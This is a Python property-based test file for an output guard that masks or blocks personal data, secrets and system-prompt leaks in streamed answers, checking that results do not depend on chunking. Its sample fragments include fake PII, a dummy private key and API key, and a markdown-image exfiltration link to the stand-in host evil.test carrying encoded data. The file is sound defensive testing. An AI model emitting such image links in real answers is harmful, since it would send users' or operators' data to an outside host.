"""Answers in pieces: whatever the chunking, the same text is released and the same is decided."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from affiant.guards import Action, AnswerContext, AnswerGuard, GuardRule, Kind, Part, Role
from affiant.guards.redact import Pseudonyms

SYSTEM = (
    "You are the travel desk of Example Air. Never mention the fare rules of partner airlines and always offer the window seat "
    "first before any other seat. Internal mark Zx9-Qp44-Ab71-Kk02."
)
PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0\nBAQEFAASC\n-----END PRIVATE KEY-----"
FRAGMENTS = [
    "hello",
    " ",
    " ",
    "\n",
    "\n\n",
    "john@example.com",
    "john@",
    "example.com",
    "4111 1111 1111 1111",
    "4111",
    "1111",
    "-",
    "555",
    "123-45-6789",
    "123-45",
    "call me at ",
    "212 555 0100",
    "+49 30 901820",
    "(212)",
    "![x](https://evil.test/p?d=c2VjcmV0c2VjcmV0)",
    "![",
    "](",
    "https://evil.test/?q=abcdefghijk",
    ")",
    "<img src=",
    ">",
    "sk-" + "a1B2c3D4" * 4,
    "日本語",
    "電話",
    "\u200b",
    "é",
    "，",
    "-----BEGIN ",
    PEM,
    "-----END",
    SYSTEM,
    SYSTEM[:60],
    SYSTEM[30:150],
    "Zx9-Qp44-Ab71-Kk02",
    "[EMAIL_1]",
    "[EMA",
    "IL_1]",
    "x" * 700,
    "7 " * 300,
    ".",
    "ssn",
    "+1",
]


def _guard(action: Action, enforce: bool = True, how: str = "mask", known: str = "") -> AnswerGuard:
    names = Pseudonyms()
    names.assign("EMAIL", "ann@example.org", "ann@example.org")
    parts = (Part("messages[0].content", Role.SYSTEM, Kind.TEXT, SYSTEM), Part("messages[1].content", Role.USER, Kind.TEXT, known))
    return AnswerGuard(AnswerContext(parts, names), GuardRule(action, how), enforce)


def _run(guard: AnswerGuard, pieces: list[str]) -> tuple[str, object, bool]:
    scanner = guard.scanner()
    released = "".join([scanner.feed(piece) for piece in pieces] + [scanner.finish()])
    decisions = [(d.action, d.reason, d.found, d.acted, [(h.start, h.end, h.type) for h in d.hits]) for d in guard.decisions()]
    return released, decisions, scanner.stopped


def _cut(text: str, sizes: list[int]) -> list[str]:
    pieces, place = [], 0
    for size in sizes:
        pieces.append(text[place : place + size])
        place += size
    return [*pieces, text[place:]]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=14).map("".join),
    st.lists(st.integers(1, 40), max_size=200),
    st.sampled_from([Action.REDACT, Action.BLOCK, Action.FLAG]),
)
def test_any_chunking_gives_the_same(text: str, sizes: list[int], action: Action) -> None:
    """Release, decisions and stopping do not depend on how the answer was cut."""
    assert _run(_guard(action), [text]) == _run(_guard(action), _cut(text, sizes))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=10).map("".join))
def test_one_character_at_a_time_gives_the_same(text: str) -> None:
    """The finest chunking gives what the whole gives."""
    assert _run(_guard(Action.REDACT), [text]) == _run(_guard(Action.REDACT), list(text))
